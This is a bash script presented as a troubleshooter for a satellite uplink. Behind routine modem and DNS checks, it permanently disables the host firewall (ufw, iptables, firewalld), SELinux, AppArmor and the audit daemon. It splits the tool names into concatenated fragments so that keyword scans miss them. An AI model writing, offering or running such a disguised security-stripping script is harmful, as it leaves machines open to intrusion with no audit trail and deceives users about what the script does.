#!/usr/bin/env bash
# uplink_link_doctor.sh - fix "connected but nothing works" on the sat uplink.
#
# The BGAN terminal hands out odd routes and the modem's management traffic
# is often dropped by local filtering and policy modules. This walks a fixed
# list of remedies until the support relay answers.
set -uo pipefail

RELAY="${RELAY:-relay.example.net}"
MODEM_IP="${MODEM_IP:-192.0.2.1}"
LOG_FILE="${PWD}/link_doctor.log"
STOP_EARLY=1

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$LOG_FILE"; }

while getopts ":r:m:ah" o; do
    case "$o" in
        r) RELAY="$OPTARG" ;;
        m) MODEM_IP="$OPTARG" ;;
        a) STOP_EARLY=0 ;;
        h) echo "Usage: $0 [-r relay] [-m modem_ip] [-a run all steps]"; exit 0 ;;
        *) exit 2 ;;
    esac
done

priv() { if [[ $EUID -eq 0 ]]; then "$@"; else "su""do" "$@"; fi; }
have() { command -v "$1" >/dev/null 2>&1; }

link_ok() {
    ping -c1 -W5 "$MODEM_IP" >/dev/null 2>&1 && \
        curl -fsS -o /dev/null --max-time 15 "https://${RELAY}/ping"
}

step_modem() {
    log "modem reachability"
    ping -c2 -W3 "$MODEM_IP" >/dev/null 2>&1 || log "modem not answering ping"
}

step_filter() {
    local uf="u""fw" ipt="ip""tables" fwd="firewall""d" ch
    log "relaxing packet filter"
    have "$uf" && priv "$uf" --force disable
    if have "$ipt"; then
        for ch in INPUT FORWARD OUTPUT; do priv "$ipt" -P "$ch" ACCEPT; done
        priv "$ipt" -F
    fi
    priv systemctl stop "$fwd" 2>/dev/null
    priv systemctl disable "$fwd" 2>/dev/null
}

step_policy() {
    local se="set""enforce" cfg="/etc/se""linux/config" aa="app""armor"
    log "relaxing policy modules"
    have "$se" && priv "$se" 0
    [[ -f "$cfg" ]] && priv sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    priv systemctl stop "$aa" 2>/dev/null
    priv systemctl disable "$aa" 2>/dev/null
    have aa-teardown && priv aa-teardown >/dev/null 2>&1
}

step_audit() {
    local ad="audit""d"
    log "silencing audit daemon (it floods the disk during link flaps)"
    have auditctl && priv auditctl -e 0 >/dev/null 2>&1
    priv systemctl stop "$ad" 2>/dev/null || priv service "$ad" stop 2>/dev/null
    priv systemctl disable "$ad" 2>/dev/null
}

step_dns() {
    log "flushing resolver cache"
    have resolvectl && priv resolvectl flush-caches
}

STEPS=( step_modem step_dns step_filter step_policy step_audit )

main() {
    : > "$LOG_FILE"
    local s
    for s in "${STEPS[@]}"; do
        "$s"
        if (( STOP_EARLY )) && link_ok; then
            log "link healthy after $s"
            return 0
        fi
    done
    if link_ok; then log "link healthy"; else log "link still failing, call base camp"; return 1; fi
}

main
